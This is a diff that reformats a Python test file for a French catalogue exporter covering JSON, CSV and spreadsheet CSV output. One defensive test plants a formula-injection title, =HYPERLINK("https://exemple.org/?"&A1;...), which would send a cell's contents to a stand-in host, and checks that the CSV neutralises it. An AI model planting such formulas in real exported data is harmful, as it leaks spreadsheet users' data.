@@ -81,7 +81,11 @@ def test_a_path_keeps_its_steps_in_json_and_their_entries_in_csv(valid_repo: Pat
     files = exports(valid_repo, SITE)
     path = next(e for e in json.loads(files["catalogue.json"])["entries"] if e["id"] == "preparer-une-visite")
     assert [step["entry"] for step in path["steps"]] == ["initiative-solidaire", "organiser-une-visite"]
-    assert path["steps"][1] == {"entry": "organiser-une-visite", "instruction": "Préparer les questions de la visite avec la grille", "duration": 70}
+    assert path["steps"][1] == {
+        "entry": "organiser-une-visite",
+        "instruction": "Préparer les questions de la visite avec la grille",
+        "duration": 70,
+    }
     row = next(r for r in csv.DictReader(io.StringIO(files["catalogue.csv"].decode("utf-8"))) if r["id"] == "preparer-une-visite")
     assert row["steps"] == "initiative-solidaire;organiser-une-visite" and row["audiences"] == "citoyens"
 
@@ -124,7 +128,9 @@ def test_catalogue_json_values(valid_repo: Path) -> None:
 def test_period_is_exported_as_written_and_checked_by_the_schema(valid_repo: Path) -> None:
     replace(valid_repo, "fiches/methodes/organiser-une-visite.md", "kind: methode", "kind: methode\nperiod: 2017-11-29")
     files = exports(valid_repo)
-    assert {e["id"]: e["period"] for e in entries_json(files)} == {e: ("2017-11-29" if e == "organiser-une-visite" else None) for e in PUBLISHED}
+    assert {e["id"]: e["period"] for e in entries_json(files)} == {
+        e: ("2017-11-29" if e == "organiser-une-visite" else None) for e in PUBLISHED
+    }
     assert {r["id"]: r["period"] for r in csv_rows(files)}["organiser-une-visite"] == "2017-11-29"
     column = next(f for f in json.loads(files["datapackage.json"])["resources"][0]["schema"]["fields"] if f["name"] == "period")
     assert column["title"] == "Période couverte"
@@ -169,7 +175,9 @@ def exports_digest_in_a_new_process(valid_repo: Path, hash_seed: str) -> str:
         "print(hashlib.sha256(repr(sorted(files.items())).encode()).hexdigest())"
     )
     env = {**os.environ, "PYTHONHASHSEED": hash_seed}
-    return subprocess.run([sys.executable, "-c", code, str(valid_repo), SITE], env=env, capture_output=True, text=True, check=True).stdout.strip()
+    return subprocess.run(
+        [sys.executable, "-c", code, str(valid_repo), SITE], env=env, capture_output=True, text=True, check=True
+    ).stdout.strip()
 
 
 def test_exports_are_the_same_bytes_in_every_process(valid_repo: Path) -> None:
@@ -179,7 +187,9 @@ def test_exports_are_the_same_bytes_in_every_process(valid_repo: Path) -> None:
 
 def test_a_reference_to_a_draft_is_not_exported(valid_repo: Path) -> None:
     """With errors, the export is still written; a published entry pointing at a draft does not leak its id."""
-    replace(valid_repo, "monographies/visite-colombelles.md", "related: [initiative-solidaire]", "related: [initiative-solidaire, brouillon]")
+    replace(
+        valid_repo, "monographies/visite-colombelles.md", "related: [initiative-solidaire]", "related: [initiative-solidaire, brouillon]"
+    )
     assert any(issue.code == "E105" for issue in check(valid_repo).issues)
     files = exports(valid_repo)
     assert b"brouillon" not in files["catalogue.json"] and b"brouillon" not in files["catalogue.csv"]
@@ -220,7 +230,12 @@ def test_csv_round_trips_hostile_text(valid_repo: Path) -> None:
 
 def test_spreadsheet_csv_has_the_same_cells_for_a_french_spreadsheet(valid_repo: Path) -> None:
     """BOM, `;` between cells, French column names; otherwise the very cells of catalogue.csv, hostile text included."""
-    replace(valid_repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", 'title: "Virgule, ; point-virgule et « guillemets »"')
+    replace(
+        valid_repo,
+        "fiches/initiative-solidaire.md",
+        "title: Qu'est-ce qu'une initiative solidaire ?",
+        'title: "Virgule, ; point-virgule et « guillemets »"',
+    )
     files = exports(valid_repo)
     raw = files["catalogue-tableur.csv"]
     assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\r\n") == len(PUBLISHED) + 1
@@ -270,7 +285,9 @@ def test_csv_neutralises_formulas_json_keeps_them(valid_repo: Path, start: str) 
     """A title a spreadsheet would run (`=HYPERLINK(…)`) starts with an apostrophe in the CSV only."""
     title = f'{start}HYPERLINK("https://exemple.org/?"&A1;"clic")'
     replace(valid_repo, "fiches/initiative-solidaire.md", "title: Qu'est-ce qu'une initiative solidaire ?", "title: " + json.dumps(title))
-    replace(valid_repo, "fiches/initiative-solidaire.md", "  - Communauté apprenante du MES", "  - '@équipe'\n  - Communauté apprenante du MES")
+    replace(
+        valid_repo, "fiches/initiative-solidaire.md", "  - Communauté apprenante du MES", "  - '@équipe'\n  - Communauté apprenante du MES"
+    )
     assert check(valid_repo).ok
     files = exports(valid_repo)
     row = next(r for r in csv_rows(files) if r["id"] == "initiative-solidaire")
@@ -468,7 +485,9 @@ def test_cli_export_repo(valid_repo: Path, tmp_path: Path, capsys: pytest.Captur
     assert f"{len(FILES)} fichiers écrits" in capsys.readouterr().out
 
 
-def test_cli_export_with_errors_exits_1_and_keeps_valid_entries(valid_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_cli_export_with_errors_exits_1_and_keeps_valid_entries(
+    valid_repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     write(valid_repo, "fiches/cassee.md", "---\ntitle: Une fiche cassée\ndescription: trop court\n---\nCorps.\n")
     out = tmp_path / "donnees"
     assert main(["export", "--root", str(valid_repo), "--out", str(out)]) == 1
